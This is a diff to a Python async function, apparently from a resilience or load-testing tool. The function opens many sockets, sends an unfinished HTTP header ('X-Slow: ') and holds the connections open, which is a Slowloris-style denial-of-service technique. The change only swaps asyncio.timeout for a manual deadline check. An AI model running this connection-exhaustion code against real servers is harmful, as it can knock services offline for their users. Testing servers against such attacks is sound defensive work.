@@ -44,17 +44,18 @@ async def _half_open(target: Target, seconds: float, many: int) -> None:
     held: list[socket.socket] = []
     head = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
     try:
-        with suppress(TimeoutError):
-            async with asyncio.timeout(seconds):
-                for number in count():
-                    with suppress(OSError, TimeoutError):
-                        raw = await opened(target, attacker())
-                        held.append(raw)
-                        await loop.sock_sendall(raw, head)
-                    if len(held) > many:
-                        held.pop(0).close()
-                    if number % 50 == 49:
-                        await asyncio.sleep(0.02)
+        end = loop.time() + seconds
+        for number in count():
+            if loop.time() > end:
+                break
+            with suppress(OSError, TimeoutError):
+                raw = await opened(target, attacker())
+                held.append(raw)
+                await loop.sock_sendall(raw, head)
+            if len(held) > many:
+                held.pop(0).close()
+            if number % 50 == 49:
+                await asyncio.sleep(0.02)
     finally:
         for raw in held:
             raw.close()
